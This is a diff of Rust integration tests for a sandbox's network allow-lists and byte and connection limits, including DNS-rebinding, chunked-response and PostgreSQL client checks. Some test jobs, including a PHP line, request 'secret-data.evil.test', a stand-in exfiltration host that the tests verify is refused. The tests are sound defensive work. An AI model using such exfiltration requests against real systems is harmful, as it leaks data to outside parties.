@@ -254,6 +254,8 @@ fn native_with_curl(env: &Env) -> Result<(), String> {
 
 /// An HTTP server on 127.0.0.1 that counts its connections: `/redirect`
 /// answers `302` to `redirect_to`, `/big` 3 MiB, `/slow` after 4 s,
+/// `/chunked` a chunked body split inside a UTF-8 character, `/close` a
+/// body ended by closing,
 /// `POST /sink` after reading its whole body,
 /// anything else `200` with `body`.
 fn http_server(body: &'static str, redirect_to: String) -> (u16, Arc<AtomicUsize>) {
@@ -284,6 +286,18 @@ fn http_server(body: &'static str, redirect_to: String) -> (u16, Arc<AtomicUsize
                     .as_bytes(),
                 );
                 let _ = c.write_all(&big);
+                continue;
+            }
+            if head.starts_with("GET /chunked ") {
+                // Chunks that split "é" (c3 a9) between them.
+                let _ = c.write_all(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n4\r\nh\xc3\xa9l\r\n");
+                std::thread::sleep(Duration::from_millis(50));
+                let _ = c.write_all(b"3\r\nlo \r\n6\r\nw\xc3\xb6rld\r\n0\r\n\r\n");
+                continue;
+            }
+            if head.starts_with("GET /close ") {
+                // No length: the body ends when the server closes.
+                let _ = c.write_all(b"HTTP/1.0 200 OK\r\n\r\nuntil-close");
                 continue;
             }
             if head.starts_with("GET /slow ") {
@@ -583,6 +597,32 @@ fn a_tenant_cannot_widen_its_jobs_network_beyond_its_quota() {
     );
 }
 
+/// Jobs `greedy` (its `entry` is `download`: 3 MiB in) and `pusher`
+/// (`upload`: 3 MiB out), allowed the server on `port` with 1 MiB each way,
+/// run by `run`: each run ends, naming its limit, before it finishes.
+fn byte_caps(env: &Env, port: u16, entry: &str, download: &str, upload: &str, run: &dyn Fn(&str)) {
+    for (name, script, key, said, limit) in [
+        ("greedy", download, "net_in_mb", "received", "net_in"),
+        ("pusher", upload, "net_out_mb", "sent", "net_out"),
+    ] {
+        let settings =
+            format!(r#"{{"network": ["http://127.0.0.1:{port}"], "limits": {{"{key}": 1}}}}"#);
+        env.deploy_files(name, &[(entry, script), ("settings.job", &settings)]);
+        run(name);
+        let log = env.latest_log(name);
+        assert!(
+            log.contains(&format!(
+                "Job was stopped: it {said} more than 1 MiB through its network connections (limits.{key})."
+            )),
+            "{log}"
+        );
+        assert!(!log.contains("finished"), "{log}");
+        let status = env.latest_status(name);
+        assert_eq!(status["Status"], "Failed", "{status}");
+        assert_eq!(status["Limit"], limit, "{status}");
+    }
+}
+
 #[test]
 fn a_runs_network_limits_refuse_or_end_the_excess_by_name() {
     let env = Env::new();
@@ -608,60 +648,23 @@ fn a_runs_network_limits_refuse_or_end_the_excess_by_name() {
     );
     assert!(log.contains("first: small"), "{log}");
     assert!(
-        log.contains("the run has 1 through the host already (limits.net_connections)"),
+        log.contains(
+            "refused: the run has as many connections through the host as it may (limits.net_connections = 1)"
+        ),
         "{log}"
     );
     assert_eq!(hits.load(Ordering::SeqCst), 1, "{log}");
-    // 1 MiB in at most: a 3 MiB download ends the run, naming the limit.
-    let settings =
-        format!(r#"{{"network": ["http://127.0.0.1:{port}"], "limits": {{"net_in_mb": 1}}}}"#);
-    env.deploy_files(
-        "greedy",
-        &[
-            (
-                "run.sh",
-                &format!(
-                    "curl -sS -m 10 -o /dev/null http://127.0.0.1:{port}/big\necho finished\n"
-                ),
-            ),
-            ("settings.job", &settings),
-        ],
+    // 1 MiB in, and out, at most: 3 MiB ends the run, naming the limit.
+    byte_caps(
+        &env,
+        port,
+        "run.sh",
+        &format!("curl -sS -m 10 -o /dev/null http://127.0.0.1:{port}/big\necho finished\n"),
+        &format!(
+            "head -c 3145728 /dev/zero > big\ncurl -sS -m 10 --data-binary @big http://127.0.0.1:{port}/sink\necho finished\n"
+        ),
+        &|name| run_native(&env, &bound, name, &[]),
     );
-    run_native(&env, &bound, "greedy", &[]);
-    let log = env.latest_log("greedy");
-    assert!(
-        log.contains("Job was stopped: it received more than 1 MiB through its network connections (limits.net_in_mb)."),
-        "{log}"
-    );
-    assert!(!log.contains("finished"), "{log}");
-    let status = env.latest_status("greedy");
-    assert_eq!(status["Status"], "Failed", "{status}");
-    assert_eq!(status["Limit"], "net_in", "{status}");
-    // 1 MiB out at most: a 3 MiB upload ends the run, naming the limit.
-    let settings =
-        format!(r#"{{"network": ["http://127.0.0.1:{port}"], "limits": {{"net_out_mb": 1}}}}"#);
-    env.deploy_files(
-        "pusher",
-        &[
-            (
-                "run.sh",
-                &format!(
-                    "head -c 3145728 /dev/zero > big\ncurl -sS -m 10 --data-binary @big http://127.0.0.1:{port}/sink\necho finished\n"
-                ),
-            ),
-            ("settings.job", &settings),
-        ],
-    );
-    run_native(&env, &bound, "pusher", &[]);
-    let log = env.latest_log("pusher");
-    assert!(
-        log.contains("Job was stopped: it sent more than 1 MiB through its network connections (limits.net_out_mb)."),
-        "{log}"
-    );
-    assert!(!log.contains("finished"), "{log}");
-    let status = env.latest_status("pusher");
-    assert_eq!(status["Status"], "Failed", "{status}");
-    assert_eq!(status["Limit"], "net_out", "{status}");
 }
 
 #[test]
@@ -819,6 +822,8 @@ function raw(port) {
   console.log(`fetch: ${await f(`http://127.0.0.1:${A}/`)}`);
   console.log(`spelled: ${await f(`http://2130706433:${A}/`)}`);
   console.log(`http.get: ${await get(http, `http://127.0.0.1:${A}/`)}`);
+  console.log(`chunked: ${await get(http, `http://127.0.0.1:${A}/chunked`)}`);
+  console.log(`until close: ${await f(`http://127.0.0.1:${A}/close`)}`);
   console.log(`https.get: ${await get(https, `https://127.0.0.1:${T}/`, { rejectUnauthorized: false })}`);
   console.log(`https fetch: ${await f(`https://127.0.0.1:${T}/`, { signal: AbortSignal.timeout(10000) })}`);
   console.log(`tls.connect: ${await raw(T)}`);
@@ -879,6 +884,14 @@ fn a_js_job_reaches_exactly_its_allowed_servers_through_the_hosts_sockets() {
         "{log}"
     );
     assert!(
+        line_of(&log, "chunked").ends_with("200 héllo wörld"),
+        "{log}"
+    );
+    assert!(
+        line_of(&log, "until close").ends_with("200 until-close"),
+        "{log}"
+    );
+    assert!(
         line_of(&log, "https.get").ends_with("200 tls-bytes"),
         "{log}"
     );
@@ -931,10 +944,10 @@ fn a_js_job_reaches_exactly_its_allowed_servers_through_the_hosts_sockets() {
         log.contains("bytes out") && log.contains("bytes in"),
         "{log}"
     );
-    // Judged by the servers: the allowed one saw the four allowed requests
+    // Judged by the servers: the allowed one saw the six allowed requests
     // (the redirect's first hop included), the other none; the line server
     // one connection.
-    assert_eq!(hits.load(Ordering::SeqCst), 4, "{log}");
+    assert_eq!(hits.load(Ordering::SeqCst), 6, "{log}");
     assert_eq!(other_hits.load(Ordering::SeqCst), 0, "{log}");
     assert_eq!(echo_hits.load(Ordering::SeqCst), 1, "{log}");
 
@@ -984,60 +997,24 @@ fn a_js_jobs_network_limits_refuse_or_end_the_excess_by_name() {
     let log = env.latest_log("one");
     assert!(
         line_of(&log, "second").contains("EACCES")
-            && line_of(&log, "second").contains("(limits.net_connections)"),
+            && line_of(&log, "second").contains("(limits.net_connections = 1)"),
         "{log}"
     );
     assert!(line_of(&log, "first").ends_with("small"), "{log}");
     assert_eq!(hits.load(Ordering::SeqCst), 1, "{log}");
-    // 1 MiB in at most: a 3 MiB download ends the run, naming the limit.
-    let settings =
-        format!(r#"{{"network": ["http://127.0.0.1:{port}"], "limits": {{"net_in_mb": 1}}}}"#);
-    env.deploy_files(
-        "greedy",
-        &[
-            (
-                "run.js",
-                &format!(
-                    "fetch('http://127.0.0.1:{port}/big').then((r) => r.arrayBuffer()).then((b) => console.log('finished', b.byteLength));\n"
-                ),
-            ),
-            ("settings.job", &settings),
-        ],
+    // 1 MiB in, and out, at most: 3 MiB ends the run, naming the limit.
+    byte_caps(
+        &env,
+        port,
+        "run.js",
+        &format!(
+            "fetch('http://127.0.0.1:{port}/big').then((r) => r.arrayBuffer()).then((b) => console.log('finished', b.byteLength));\n"
+        ),
+        &format!(
+            "fetch('http://127.0.0.1:{port}/sink', {{ method: 'POST', body: new Uint8Array(3 << 20) }}).then(() => console.log('finished'), (e) => console.log('failed', e.cause && e.cause.code));\n"
+        ),
+        &|name| run_wasm(&env, &bound, &[], name),
     );
-    run_wasm(&env, &bound, &[], "greedy");
-    let log = env.latest_log("greedy");
-    assert!(
-        log.contains("Job was stopped: it received more than 1 MiB through its network connections (limits.net_in_mb)."),
-        "{log}"
-    );
-    assert!(!log.contains("finished"), "{log}");
-    let status = env.latest_status("greedy");
-    assert_eq!(status["Status"], "Failed", "{status}");
-    assert_eq!(status["Limit"], "net_in", "{status}");
-    // 1 MiB out at most: a 3 MiB upload ends the run, naming the limit.
-    let settings =
-        format!(r#"{{"network": ["http://127.0.0.1:{port}"], "limits": {{"net_out_mb": 1}}}}"#);
-    env.deploy_files(
-        "pusher",
-        &[
-            (
-                "run.js",
-                &format!(
-                    "fetch('http://127.0.0.1:{port}/sink', {{ method: 'POST', body: new Uint8Array(3 << 20) }}).then(() => console.log('finished'), (e) => console.log('failed', e.cause && e.cause.code));\n"
-                ),
-            ),
-            ("settings.job", &settings),
-        ],
-    );
-    run_wasm(&env, &bound, &[], "pusher");
-    let log = env.latest_log("pusher");
-    assert!(
-        log.contains("Job was stopped: it sent more than 1 MiB through its network connections (limits.net_out_mb)."),
-        "{log}"
-    );
-    assert!(!log.contains("finished"), "{log}");
-    let status = env.latest_status("pusher");
-    assert_eq!(status["Limit"], "net_out", "{status}");
     // A job that asks for no network has every connection refused, saying
     // how to ask.
     env.deploy_js(
@@ -1129,7 +1106,8 @@ fn a_name_that_rebinds_reaches_only_what_the_host_judged() {
     let (allowed, hits) = http_server("allowed-bytes", String::new());
     // The same port on 127.0.0.2: where the name points at its second
     // lookup.
-    let elsewhere = TcpListener::bind(("127.0.0.2", allowed));
+    let elsewhere =
+        TcpListener::bind(("127.0.0.2", allowed)).expect("a listener on 127.0.0.2 (loopback)");
     let script = format!(
         "(async () => {{\n\
            for (const [what, url] of [['first', 'http://rebind.test:{allowed}/'], ['second', 'http://REBIND.test.:{allowed}/'], ['unknown', 'http://unknown.test:{allowed}/'], ['unnamed', 'http://secret-data.evil.test:{allowed}/']]) {{\n\
@@ -1192,10 +1170,8 @@ fn a_name_that_rebinds_reaches_only_what_the_host_judged() {
     // One question per connection, and nothing reached 127.0.0.2.
     assert_eq!(asked.load(Ordering::SeqCst), 2, "{log}");
     assert_eq!(hits.load(Ordering::SeqCst), 1, "{log}");
-    if let Ok(l) = elsewhere {
-        l.set_nonblocking(true).unwrap();
-        assert!(l.accept().is_err(), "127.0.0.2 was reached:\n{log}");
-    }
+    elsewhere.set_nonblocking(true).unwrap();
+    assert!(elsewhere.accept().is_err(), "127.0.0.2 was reached:\n{log}");
 }
 
 /// Whether these tests run as root (the host then relays a native job's
@@ -1419,6 +1395,28 @@ echo "unnamed: $(php -r 'echo @file_get_contents("http://secret-data.evil.test:{
     assert_eq!(hits.load(Ordering::SeqCst), 2, "{log}");
 }
 
+/// The vendored node-postgres job (tests/net/pg-job), copied and deployed
+/// as `pg`, allowed 127.0.0.1:`port`; its source and its copy.
+fn pg_job(env: &Env, port: &str) -> (std::path::PathBuf, std::path::PathBuf) {
+    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/net/pg-job");
+    let job = env.dir.path().join("pg-job");
+    let copied = std::process::Command::new("cp")
+        .arg("-r")
+        .arg(&src)
+        .arg(&job)
+        .status()
+        .unwrap();
+    assert!(copied.success());
+    std::fs::write(
+        job.join("settings.job"),
+        format!(r#"{{"network": ["tcp://127.0.0.1:{port}"]}}"#),
+    )
+    .unwrap();
+    env.run(&["deploy", job.to_str().unwrap(), "--name", "pg"])
+        .ok();
+    (src, job)
+}
+
 /// A real npm client library, as users install it: node-postgres (`pg`,
 /// vendored in tests/net/pg-job with its provenance) queries the tests'
 /// PostgreSQL server from the JS guest, allowed exactly that server, and
@@ -1440,22 +1438,7 @@ fn a_js_job_queries_postgresql_with_the_pg_package() {
         .expect("a database URL");
     let port = authority.rsplit(':').next().unwrap();
     let env = Env::new();
-    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/net/pg-job");
-    let job = env.dir.path().join("pg-job");
-    let copied = std::process::Command::new("cp")
-        .arg("-r")
-        .arg(&src)
-        .arg(&job)
-        .status()
-        .unwrap();
-    assert!(copied.success());
-    std::fs::write(
-        job.join("settings.job"),
-        format!(r#"{{"network": ["tcp://127.0.0.1:{port}"]}}"#),
-    )
-    .unwrap();
-    env.run(&["deploy", job.to_str().unwrap(), "--name", "pg"])
-        .ok();
+    let (src, job) = pg_job(&env, port);
     let bound = format!("public,tcp://127.0.0.1:{port}");
     let out = env
         .cmd()
@@ -1521,24 +1504,7 @@ fn a_js_job_logs_in_to_postgresql_with_scram() {
     let port = common::http::free_port();
     let server = common::pg::Throwaway::start_with(port, Some("s3cret-pw"));
     let env = Env::new();
-    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/net/pg-job");
-    let job = env.dir.path().join("pg-job");
-    assert!(
-        std::process::Command::new("cp")
-            .arg("-r")
-            .arg(&src)
-            .arg(&job)
-            .status()
-            .unwrap()
-            .success()
-    );
-    std::fs::write(
-        job.join("settings.job"),
-        format!(r#"{{"network": ["tcp://127.0.0.1:{port}"]}}"#),
-    )
-    .unwrap();
-    env.run(&["deploy", job.to_str().unwrap(), "--name", "pg"])
-        .ok();
+    let (src, _) = pg_job(&env, &port.to_string());
     let bound = format!("public,tcp://127.0.0.1:{port}");
     let run = |url: &str| {
         env.cmd()
